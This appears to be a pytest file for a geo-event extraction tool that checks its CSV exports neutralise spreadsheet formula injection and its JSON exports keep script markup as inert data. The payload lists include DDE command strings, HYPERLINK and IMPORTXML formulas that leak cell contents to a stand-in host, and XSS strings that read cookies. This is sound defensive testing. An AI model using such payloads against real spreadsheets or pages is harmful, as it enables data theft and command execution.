"""Hostile text in exports: formulas neutralised in CSV, scripts kept as inert data in JSON.

Maps (HTML popups, ``javascript:`` links) are covered in Chromium by
``test_map_browser.py`` (``test_hostile_text_neither_runs_nor_breaks_the_page``,
``test_hostile_document_through_the_pipeline``).
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from geoevents.export import (
    acled_row,
    csv_safe,
    dumps_csv,
    dumps_geojson,
    dumps_jsonl,
    events_to_geojson,
)
from geoevents.models import Event, Mention, Place
from tests.test_properties import check_feature_collection

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")',
    "-2-cmd|' /C calc'!A0",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(document.cookie)",
    "</script><script>alert(1)</script>",
    "\u2028\u2029\u0085 line separators",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def _event(text: str) -> Event:
    mention = Mention(text=text, start=0, end=len(text), label="GPE", name=text)
    place = Place(mention, text, "point", {"type": "Point", "coordinates": [40.8, 34.7]},
                  country_code="SY", country=text, admin1=text, lat=34.7, lon=40.8)  # fmt: skip
    return Event(
        event_id=text,
        event_type="Battles",
        sub_event_type=text,
        source_sentence=text,
        source_section="body",
        trigger=text,
        trigger_start=0,
        trigger_end=1,
        place=place,
        actor1=text,
        actor2=text,
        assoc_actor_1=text,
        event_date="2024-03-01",
        source=text,
    )


def _assert_inert(cell: str) -> None:
    if cell.startswith(DANGEROUS_START):
        float(cell)  # only a plain number may start so


@pytest.mark.parametrize("payload", FORMULAS)
def test_every_csv_text_cell_is_neutralised(payload):
    rows = list(csv.DictReader(io.StringIO(dumps_csv([_event(payload)]))))
    assert len(rows) == 1
    row = rows[0]
    for cell in row.values():
        _assert_inert(cell)
    hostile_columns = [k for k, v in acled_row(_event(payload)).items() if v == payload]
    assert {"actor1", "actor2", "assoc_actor_1", "location", "admin1", "notes", "source",
            "event_id_cnty", "sub_event_type"} <= set(hostile_columns)  # fmt: skip
    for column in hostile_columns:
        # The text is kept, behind a quote; a CR is written as a line break.
        assert row[column] == "'" + payload.replace("\r", "\n")


def test_numbers_are_left_alone():
    assert csv_safe(-33.5) == -33.5 and csv_safe(0) == 0 and csv_safe(None) is None
    text = dumps_csv([_event("Hajin")]).splitlines()[1]
    assert ",40.8," in text and "'" not in text


@pytest.mark.parametrize("payload", SCRIPTS + FORMULAS)
def test_json_exports_keep_hostile_text_as_inert_data(payload):
    event = _event(payload)
    collection = json.loads(dumps_geojson(events_to_geojson([event])))
    check_feature_collection(collection)
    props = collection["features"][0]["properties"]
    assert props["source_sentence"] == payload and props["actor1"] == payload
    assert collection["features"][0]["id"] == payload
    (row,) = [json.loads(line) for line in dumps_jsonl([event]).split("\n") if line]
    assert row["source"] == payload


def test_hostile_corpus_through_the_command_csv_and_geojson(tmp_path):
    corpus = tmp_path / "hostile.jsonl"
    records = [
        {
            "id": '=HYPERLINK("http://evil.test","x")',
            "text": "=cmd|' /C calc'!A0 On 3 March 2024 an airstrike hit the town of Hajin "
            "in Syria.",
            "title": "<script>alert(1)</script>",
            "url": "javascript:alert(1)",
        },
        {
            "id": "<img src=x onerror=alert(1)>",
            "text": "@SUM(1) Jets struck the town of Hajin in Syria on 3 March 2024. "
            "<script>alert('SCRIPT-TEXT')</script>",
        },
    ]
    corpus.write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    for output in ("out.csv", "out.geojson"):
        proc = subprocess.run(
            [sys.executable, "-m", "geoevents", "extract", str(corpus), "-o", output],
            cwd=tmp_path, capture_output=True, text=True, env=env, timeout=300,
        )  # fmt: skip
        assert proc.returncode == 0, proc.stderr
        assert "Traceback" not in proc.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8"))))
    assert {r["source"] for r in rows} == {
        '\'=HYPERLINK("http://evil.test","x")',
        "<img src=x onerror=alert(1)>",
    }
    for row in rows:
        for cell in row.values():
            _assert_inert(cell)
    collection = json.loads((tmp_path / "out.geojson").read_text("utf-8"))
    check_feature_collection(collection)
    text = (tmp_path / "out.geojson").read_text("utf-8")
    assert "SCRIPT-TEXT" not in text  # markup in a JSONL text is stripped as HTML
    assert "javascript:" not in text  # URLs are not exported
